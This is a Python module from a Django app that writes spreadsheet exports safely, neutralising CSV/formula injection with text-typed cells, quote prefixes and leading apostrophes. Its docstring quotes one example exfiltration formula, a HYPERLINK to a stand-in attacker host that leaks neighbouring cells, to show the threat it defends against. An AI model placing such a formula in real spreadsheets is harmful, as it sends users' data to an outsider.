"""Every spreadsheet the app writes (.xlsx and .csv) is written here, so that none can run a formula.

What people type (a unit's name, a volunteer's name, a focus area's title, a consultation response) may
start like a formula: ``=HYPERLINK("http://evil.example/?leak="&B2,"Klik her")`` in a cell a spreadsheet
runs sends the neighbouring cells away ("CSV injection"). A text starts like a formula when it starts with
=, +, -, @, a tab or a carriage return.

- .xlsx: every text is a text cell, never a formula (openpyxl would otherwise store "=..." as one), with
  the text as typed. One that starts like a formula also gets Excel's quote prefix (what typing a leading
  apostrophe gives, invisible), so that editing the cell in Excel keeps it text.
- .csv: the file has no cell types, so such a text gets a leading apostrophe (``'=HYPERLINK(...``),
  which makes it plain text in Excel, LibreOffice and Google Sheets. Except a signed number or a phone
  number ("+45 12 34 56 78", "-12"): made only of digits, spaces, hyphens and parentheses it can at most
  be arithmetic, never call a function or read a cell, so it stays readable as typed.

Dates are date cells in the .xlsx and ISO dates (2026-12-04) in the .csv, which a spreadsheet reads as
dates in any language. The .csv is for Danish Excel: UTF-8 with a byte order mark, ";" between fields.
Each sheet has a name Excel accepts (at most 31 characters, none of \\ / ? * : [ ], unique).
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

from .lists import Column

FORMATS = ("xlsx", "csv")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"
CONTENT_TYPES = {"xlsx": XLSX_TYPE, "csv": CSV_TYPE}
DATE_CELL_FORMAT = "DD-MM-YYYY"

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: A signed number or phone number: arithmetic at most, so harmless in a .csv and left as typed.
_NUMBER_LIKE = re.compile(r"[+-][\d ()-]+")
#: Characters Excel does not allow in a sheet's name.
_NOT_IN_SHEET_TITLE = re.compile(r"[\\/?*:\[\]]")
SHEET_TITLE_LENGTH = 31


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def csv_text(value: Any) -> str:
    """A value as a .csv field that no spreadsheet runs."""
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    if starts_like_formula(text) and not _NUMBER_LIKE.fullmatch(text):
        return f"'{text}"
    return text


def sheet_title(title: Any, taken: Iterable[str] = ()) -> str:
    """``title`` as a sheet name Excel accepts, different from the names in ``taken``."""
    text = _NOT_IN_SHEET_TITLE.sub(" ", ILLEGAL_CHARACTERS_RE.sub("", str(title))).strip().strip("'")
    # Excel reserves "History" (for its change tracking).
    base = text[:SHEET_TITLE_LENGTH].strip() or "-"
    if base.lower() == "history":
        base = f"{base} -"
    used = {name.lower() for name in taken}
    candidate, number = base, 1
    while candidate.lower() in used:
        number += 1
        suffix = f" ({number})"
        candidate = base[: SHEET_TITLE_LENGTH - len(suffix)].rstrip() + suffix
    return candidate


@dataclass
class Sheet:
    """One table of a workbook: its name, a bold header row and the rows (any iterable: a queryset's
    iterator is written as it is read). ``widths`` in characters, one per column; by default
    ``heading_width``. The header row (and with ``freeze="B2"`` the first column too)
    stays in view when scrolling; ``wrap`` wraps long texts; ``filter`` puts filter buttons on the header."""

    title: Any
    headers: Sequence[Any]
    rows: Iterable[Sequence[Any]]
    widths: Sequence[int] | None = None
    freeze: str = "A2"
    wrap: bool = False
    filter: bool = False


def heading_width(heading: Any) -> int:
    """A column as wide as its heading, within 12 and 45 characters."""
    return max(12, min(45, len(str(heading)) + 4))


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    workbook = Workbook(write_only=True)
    for sheet in sheets:
        _write_sheet(workbook, sheet)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def csv_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    output = io.StringIO()
    output.write("\ufeff")
    writer = csv.writer(output, delimiter=";", lineterminator="\r\n")
    writer.writerow([csv_text(header) for header in headers])
    for row in rows:
        writer.writerow([csv_text(value) for value in row])
    return output.getvalue().encode("utf-8")


def download(content: bytes, filename: str) -> HttpResponse:
    """The file as an attachment, its type told by its extension (.xlsx or .csv)."""
    response = HttpResponse(content, content_type=CONTENT_TYPES[filename.rsplit(".", 1)[-1]])
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def table_response(fmt: str, columns: Sequence[Column], objects: Iterable[Any], filename: str, title: Any):
    """A list's export: one header row of the columns' labels and one row per object, as ``fmt`` (.xlsx
    or .csv); ``filename`` without its extension, ``title`` names the sheet."""
    headers = [column.label for column in columns]
    rows = ([column.value(obj) for column in columns] for obj in objects)
    if fmt == "xlsx":
        content = xlsx_bytes([Sheet(title, headers, rows)])
    else:
        content = csv_bytes(headers, rows)
    return download(content, f"{filename}.{fmt}")


def _write_sheet(workbook: Workbook, table: Sheet) -> None:
    sheet = workbook.create_sheet(sheet_title(table.title, workbook.sheetnames))
    widths = table.widths or [heading_width(header) for header in table.headers]
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = table.freeze
    bold = Font(bold=True)
    header = [_cell(sheet, str(value)) for value in table.headers]
    for cell in header:
        cell.font = bold
    sheet.append(header)
    wrap = Alignment(wrap_text=True, vertical="top") if table.wrap else None
    row_count = 1
    for values in table.rows:
        row = [_cell(sheet, value) for value in values]
        if wrap:
            for cell in row:
                cell.alignment = wrap
        sheet.append(row)
        row_count += 1
    if table.filter:
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(table.headers))}{row_count}"


def _cell(sheet, value: Any) -> Cell:
    cell = WriteOnlyCell(sheet)
    if isinstance(value, date):
        cell.value = value
        cell.number_format = DATE_CELL_FORMAT
    elif isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        cell.value = value
    else:
        text = "" if value is None else ILLEGAL_CHARACTERS_RE.sub("", str(value))
        cell.value = text
        cell.data_type = "s"  # always text: openpyxl would store "=..." as a formula
        if starts_like_formula(text):
            cell.quotePrefix = True
    return cell
